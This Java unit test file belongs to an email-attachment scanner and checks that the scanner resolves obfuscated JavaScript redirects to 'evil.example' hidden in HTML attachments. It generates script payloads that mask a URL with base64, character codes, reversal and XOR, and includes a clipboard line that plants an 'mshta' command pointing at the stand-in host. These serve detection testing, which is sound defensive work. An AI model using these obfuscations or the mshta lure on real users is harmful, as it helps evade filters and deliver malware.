package org.bloomgate.content.mime;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.BiFunction;
import java.util.stream.Collectors;
import org.bloomgate.core.key.Place;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What scripts open, write and run: known through any composition of constant operations, or else the limit.
class ScriptActsTest {
    private static final int CASES = 40;

    /// The acts, each of an expression for `http://evil.example/x`.
    private static final List<String> ACTS = List.of(
            "location=%s",
            "window.location.href=%s",
            "location.assign(%s)",
            "window['location'].replace(%s)",
            "document.write('<a href=\"'+%s+'\">x</a>')",
            "document.body.innerHTML='<a href=\"'+%s+'\">x</a>'",
            "e.insertAdjacentHTML('beforeend',`<a href='${%s}'>x</a>`)",
            "open(%s)",
            "document.getElementById('f').action=%s",
            "document.images[0].setAttribute('src',%s)",
            "eval('location=\"'+%s+'\"')",
            "Function('location=\"'+%s+'\"')()",
            "setTimeout('location=\"'+%s+'\"',9)",
            "function go(u){location=u}go(%s)",
            "(()=>{document.onclick=()=>{location=%s}})()",
            "navigator.clipboard.writeText('mshta '+%s)");

    private final Random random = new Random(1);
    private final StringBuilder before = new StringBuilder();
    private int names;

    /// Operations that hide a text in an expression of hidden texts.
    private final List<BiFunction<String, Integer, String>> operations = List.of(
            (text, depth) -> hide(text.substring(0, text.length() / 2), depth) + "+"
                    + hide(text.substring(text.length() / 2), depth),
            (text, depth) -> name(hide(text, depth)),
            (text, depth) -> name("{a:1,k:" + hide(text, depth) + "}") + ".k",
            (text, depth) -> name("{'k':" + hide(text, depth) + "}") + "['k']",
            (text, depth) -> name("['x'," + hide(text, depth) + ",'y']") + "[1]",
            (text, depth) -> "String.raw`${" + hide(text, depth) + "}`",
            (text, depth) -> "`${" + hide(text.substring(0, 1), depth) + "}`+" + hide(text.substring(1), depth),
            (text, depth) -> "(" + hide(text.substring(0, 3) + "@@" + text.substring(3), depth) + ").replace('@@','')",
            (text, depth) -> "(" + hide(text.replace("e", "~"), depth) + ").replace(/~/g,'e')",
            (text, depth) -> "(" + hide(String.join("!!", text.split("")), depth) + ").split('!!').join('')",
            (text, depth) ->
                    "(" + hide(new StringBuilder(text).reverse().toString(), depth) + ").split('').reverse().join('')",
            (text, depth) -> "atob(" + hide(Base64.getEncoder().encodeToString(text.getBytes(ISO_8859_1)), depth) + ")",
            (text, depth) -> "String.fromCharCode("
                    + text.chars().mapToObj(String::valueOf).collect(Collectors.joining(",")) + ")");

    private String name(String expression) {
        String name = "n" + names++;
        before.append("var ").append(name).append('=').append(expression).append(";\n");
        return name;
    }

    private String hide(String text, int depth) {
        if (depth == 0 || text.length() < 4) {
            return "'" + text + "'";
        }
        return "(" + operations.get(random.nextInt(operations.size())).apply(text, depth - 1) + ")";
    }

    private static ReadMessage file(String name, String content) {
        return ReadMessage.of(("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
                        + "Content-Disposition: attachment; filename=\"" + name + "\"\r\n\r\n"
                        + Base64.getMimeEncoder().encodeToString(content.getBytes(ISO_8859_1)))
                .getBytes(ISO_8859_1));
    }

    @Test
    void compositionOfConstantOperations_isResolved() {
        for (int i = 0; i < CASES * ACTS.size(); i++) {
            before.setLength(0);
            String hidden = hide("http://evil.example/x", 3 + random.nextInt(3));
            String script = before + ACTS.get(i % ACTS.size()).formatted(hidden);
            ReadMessage read = file("x.html", "<p>x</p><script>" + script + "</script>");
            assertTrue(read.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> script + "\n" + read);
            assertEquals(Set.of(), read.limits(), script);
        }
    }

    @Test
    void compositionWithAnUnknownStep_isOpaqueBesideOtherLinks() {
        String unknown = "(%s).split('').map(c=>String.fromCharCode(c.charCodeAt(0)^location.hash.length)).join('')";
        for (int i = 0; i < CASES * ACTS.size(); i++) {
            before.setLength(0);
            String hidden = unknown.formatted(hide("huuq;..dwhm/dy`lqmd.y", 1 + random.nextInt(3)));
            String script = "/* http://licence.example/ */var help='http://help.example/';" + before
                    + ACTS.get(i % ACTS.size()).formatted(hidden) + ";location='http://honest.example/'";
            assertEquals(
                    Set.of("scriptOpaque"),
                    file("x.html", "<p>x</p><script>" + script + "</script>").limits(),
                    script);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // A report of tests with a sortable table.
                "var rows=[{n:'test_a',s:1.25},{n:'test_b',s:0.5}],html='';for(var i=0;i<rows.length;i++){html+="
                        + "'<tr class=\"row'+i+'\"><td>'+rows[i].n+'</td><td>'+rows[i].s.toFixed(2)+'</td></tr>'}"
                        + "document.getElementById('t').innerHTML=html;function sort(k){location.hash='#'+k}",
                // A chart with tooltips.
                "function show(e,d){var t=document.getElementById('tip');t.innerHTML='<b>'+d.name+'</b>: '"
                        + "+d.value.toLocaleString();t.style.left=e.pageX+'px'}document.querySelectorAll('rect')"
                        + ".forEach(function(r){r.addEventListener('mouseover',function(e){show(e,r.dataset)})})",
                // A letter that prints itself.
                "function printMe(){var w=window.open('','p','width=800');w.document.write('<html><body>'+"
                        + "document.getElementById('letter').innerHTML+'</body></html>');w.document.close();w.print()}",
                // A chart of a library.
                "Plotly.newPlot('g',[{x:[1,2,3],y:[2,4,8],type:'bar'}],{title:{text:'Sales'}},{responsive:true});"
                        + "window.PlotlyConfig={MathJaxConfig:'local'};"
                        + "var n=document.querySelectorAll('.bad').length;document.title=n+' bad';"
                        + "document.getElementById('sum').innerHTML=n+' of '+(100-n)+' at '+new Date().toLocaleString()"
            })
    void scriptThatWritesNumbersAndThePage_isNotOpaque(String script) {
        assertEquals(
                Set.of(),
                file("x.html", "<p>x</p><script>" + script + "</script>").limits());
    }
}
